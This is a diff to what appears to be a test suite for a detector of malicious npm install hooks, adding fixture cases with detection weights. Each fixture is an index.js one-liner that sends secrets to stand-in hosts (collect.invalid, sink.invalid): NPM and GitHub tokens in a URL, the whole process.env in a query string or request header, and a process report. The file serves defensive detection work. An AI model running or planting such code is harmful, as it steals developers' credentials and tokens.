@@ -6,6 +6,27 @@ const hook = { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node
 examine(sendsEnvironment, {
   speaks: [
     {
+      when: 'tokens of others stand in an address',
+      files: {
+        'index.js': `const { NPM_TOKEN, GITHUB_TOKEN } = process.env; if (NPM_TOKEN) fetch(\`https://collect.invalid/\${NPM_TOKEN}/\${GITHUB_TOKEN}\`);`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'all variables, put together by a tag, stand in an address',
+      files: {
+        'index.js': `const address = (texts, ...values) => texts.raw.reduce((all, text, at) => all + text + (values[at] ? encodeURIComponent(values[at]) : ''), ''); require('https').get(address\`https://collect.invalid/?d=\${JSON.stringify(process.env)}\`);`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'all variables stand in a header of the request',
+      files: {
+        'index.js': `var all = []; for (var name in process.env) all.push(name + '=' + process.env[name]); require('http').request({ hostname: 'collect.invalid', headers: { 'X-Inert': all.join('|') } }).end();`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'a report on the process holds it',
       files: {
         'index.js': `fetch('https://sink.invalid/', { method: 'POST', body: JSON.stringify(process.report.getReport()) });`,
